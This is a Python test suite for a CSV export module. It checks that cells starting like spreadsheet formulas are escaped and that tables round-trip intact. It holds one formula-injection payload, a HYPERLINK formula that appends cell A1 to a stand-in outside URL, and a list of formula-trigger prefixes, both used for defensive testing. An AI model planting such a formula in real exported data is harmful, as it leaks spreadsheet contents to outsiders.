"""Tables for spreadsheets: nothing in them is obeyed, and everything comes back as it went in."""

import csv
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amparo.kernel.codes import ALPHABET, new_number, read_code
from amparo.kernel.tables import csv_of, plain_cell, read_csv, safe_cell

FORMULA = '=HYPERLINK("https://elsewhere.example/"&A1)'
BEGINNINGS = (
    *("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"),
    *("⁺", "−", " =", "\u200b=", "\u00a0@", "\ufeff="),
)
texts = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"))


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_a_text_that_begins_like_a_formula_is_not_obeyed(beginning: str) -> None:
    assert safe_cell(f"{beginning}1+1") == f"'{beginning}1+1"


@pytest.mark.parametrize("text", ["", "Ana", "600 123", "a=b", "1-2", "«Quiero»", "١٢", "—", "\u200b", "{}"])
def test_other_texts_stand_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


@given(texts)
def test_every_text_comes_back(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


@given(st.lists(st.lists(texts, min_size=1, max_size=4), min_size=1, max_size=4))
def test_every_table_comes_back(rows: list[list[str]]) -> None:
    assert read_csv(csv_of(rows)) == rows


@given(texts)
def test_no_cell_of_a_file_begins_like_a_formula(text: str) -> None:
    written = csv_of([[f"={text}", f" +{text}", f"＝{text}"]]).decode("utf-8-sig")
    assert all(cell.startswith("'") for cell in next(csv.reader(StringIO(written, newline=""))))


def test_a_formula_with_quotes_and_commas_stays_in_its_cell() -> None:
    assert (
        csv_of([[FORMULA, 'a","=1+1']])
        == ("\ufeff" + '"\'=HYPERLINK(""https://elsewhere.example/""&A1)","a"",""=1+1"\r\n').encode()
    )


def test_numbers_stay_numbers_and_days_are_days() -> None:
    made = csv_of([["n", -5, Decimal("-1.50"), 2.5, date(2026, 2, 1), None]])
    assert made.decode("utf-8-sig") == '"n",-5,-1.50,2.5,"2026-02-01",""\r\n'


def test_the_number_of_something_taken_out_is_never_mistaken_for_a_code() -> None:
    numbers = {new_number() for _ in range(200)}
    assert len(numbers) == 200
    assert all(set(number) <= {*ALPHABET, "-"} and read_code(number) is None for number in numbers)
